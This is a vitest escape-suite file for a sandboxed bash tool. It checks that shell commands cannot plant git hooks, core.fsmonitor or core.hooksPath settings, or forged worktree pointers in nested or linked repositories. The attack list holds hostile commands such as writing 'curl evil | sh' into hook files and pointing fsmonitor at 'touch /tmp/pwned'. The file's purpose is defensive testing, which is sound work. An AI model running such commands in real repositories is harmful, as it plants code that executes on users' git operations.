import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createSandbox, type SandboxRunner } from "../../src/sandbox/sandbox-runner.js";
import { bashTool } from "../../src/tools/builtin/bash-tool.js";
import type { Tool, ToolResult } from "../../src/tools/tool.js";
import type { Confinement } from "../../src/sandbox/confinement.js";
import { repoRoot } from "../helpers/test-env.js";
import { readyForTools, toolContext, toolPath } from "../helpers/tool-context.js";
import { attempt, watch, type Canary } from "./escape-ledger.js";

// Git metadata that runs code (hooks, config: core.fsmonitor, core.hooksPath) in every repository of a
// workspace, nested ones and worktree pointers included, against the shell (SPEC S11; the file tools are
// in file-tool-escapes.test.ts). And git run on the host by anyone but the tenant refuses the repository.
const bash = bashTool as unknown as Tool<{ command: string }>;
let base: string;
let workspace: string;
let outside: string;
let runner: SandboxRunner;
let canary: Canary;

const git = (cwd: string, ...args: string[]) => execFileSync("git", ["-C", cwd, ...args], { stdio: "pipe" }).toString();

beforeAll(async () => {
  base = await realpath(await mkdtemp(path.join(tmpdir(), "foya-escape-git-")));
  workspace = path.join(base, "workspaces", "ten", "prj");
  outside = path.join(base, "outside");
  await mkdir(outside, { recursive: true });
  await mkdir(workspace, { recursive: true });
  git(workspace, "init", "-q");
  await mkdir(path.join(workspace, "vendor", "lib"), { recursive: true });
  git(path.join(workspace, "vendor", "lib"), "init", "-q");
  // A linked worktree's pointer file (`.git` as a file), as `git worktree add` leaves it.
  await mkdir(path.join(workspace, ".git", "worktrees", "wt"), { recursive: true });
  await mkdir(path.join(workspace, "wt"), { recursive: true });
  await writeFile(path.join(workspace, "wt", ".git"), `gitdir: ${path.join(workspace, ".git", "worktrees", "wt")}\n`);
  runner = createSandbox({
    bwrapPath: "bwrap",
    searchPath: toolPath,
    workspacesDir: path.join(base, "workspaces"),
    servicePaths: [repoRoot],
  });
  await readyForTools(workspace);
  canary = watch([
    outside,
    path.join(workspace, ".git", "hooks"),
    path.join(workspace, ".git", "config"),
    path.join(workspace, "vendor", "lib", ".git", "hooks"),
    path.join(workspace, "vendor", "lib", ".git", "config"),
    path.join(workspace, "wt", ".git"),
  ]);
});
afterAll(async () => rm(base, { recursive: true, force: true }));

const run = (command: string, confinement: Confinement): Promise<ToolResult> =>
  bash.run(
    toolContext({ workspaceDir: workspace, runner, exposedTools: ["bash"], confinement }),
    { command },
    { callId: "c", name: "bash", argumentsRaw: "" },
  );
const text = (result: ToolResult) => (result.content[0]?.type === "text" ? result.content[0].text : "");

describe("escape suite: git metadata", () => {
  for (const confinement of [{ kind: "sandbox", network: false }, { kind: "full_access" }] as const) {
    it(`S11: the shell cannot plant hooks or configuration in any repository of the workspace, nested or linked (${confinement.kind})`, async () => {
      const attacks = [
        "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "echo 'curl evil | sh' > vendor/lib/.git/hooks/post-checkout",
        "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> vendor/lib/.git/config",
        "git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned'",
        "git -C vendor/lib config core.hooksPath /tmp",
        "mv vendor/lib/.git vendor/lib/.git-old && git -C vendor/lib init -q && git -C vendor/lib config core.fsmonitor evil",
        "mv vendor/lib/.git/hooks vendor/lib/.git/hooks-old && mkdir vendor/lib/.git/hooks && echo evil > vendor/lib/.git/hooks/pre-commit",
        "echo 'gitdir: /tmp/elsewhere' > wt/.git",
        "rm -f wt/.git; echo 'gitdir: /tmp/elsewhere' > wt/.git",
      ];
      for (const command of attacks) {
        await attempt(`shell: ${command} (${confinement.kind})`, canary, async () => {
          const result = await run(command, confinement);
          expect(result, `${command}\n${text(result)}`).toMatchObject({ isError: true });
        });
      }
      expect(existsSync(path.join(workspace, "vendor", "lib", ".git-old"))).toBe(false);
      // The rest of git works: commits in both repositories.
      const work = await run(
        "git -c user.name=t -c user.email=t@x commit -q --allow-empty -m one && git -C vendor/lib -c user.name=t -c user.email=t@x commit -q --allow-empty -m two && echo ok",
        confinement,
      );
      expect(text(work)).toMatch(/ok\n\n\[exit code 0\]$/);
    });
  }

  it("S11: in a workspace of 70 repositories every one's hooks and configuration are read-only, and the shell still works in each", async () => {
    const many = path.join(base, "workspaces", "ten", "many");
    await mkdir(many, { recursive: true });
    execFileSync("bash", ["-c", "for i in $(seq -w 1 70); do git init -q vendor/r$i; done"], { cwd: many });
    await readyForTools(many);
    const result = await bash.run(
      toolContext({ workspaceDir: many, runner, exposedTools: ["bash"] }),
      {
        command:
          'w=0; for r in vendor/r*; do { echo evil > $r/.git/hooks/pre-commit; } 2>/dev/null && w=$((w+1)); { echo x >> $r/.git/config; } 2>/dev/null && w=$((w+1)); done; echo "written $w"; ls vendor | wc -l; touch vendor/r70/ok && echo fine',
      },
      { callId: "c", name: "bash", argumentsRaw: "" },
    );
    expect(text(result)).toBe("written 0\n70\nfine\n\n[exit code 0]");
  });

  it("S11: git run on the host by anyone but the tenant refuses the tenant's repositories, so a configuration the command planted in a repository it made runs nothing", async () => {
    const marker = path.join(outside, `fsmonitor-ran-${process.pid}`);
    // A repository the command creates during its call is its own (nothing protects what does not exist yet).
    const planted = await run(`git init -q fresh && git -C fresh config core.fsmonitor 'touch ${marker}' && echo planted`, {
      kind: "sandbox",
      network: false,
    });
    expect(text(planted)).toContain("planted");
    await attempt("a planted core.fsmonitor run by a host-side git status", canary, async () => {
      let output = "";
      try {
        output = git(path.join(workspace, "fresh"), "status");
      } catch (error) {
        output = String((error as { stderr?: Buffer }).stderr ?? error);
      }
      if (process.getuid?.() === 0) expect(output).toMatch(/dubious ownership/);
      expect(existsSync(marker)).toBe(false);
    });
    expect(await readFile(path.join(workspace, "fresh", ".git", "config"), "utf8")).toContain("fsmonitor");
  });
});
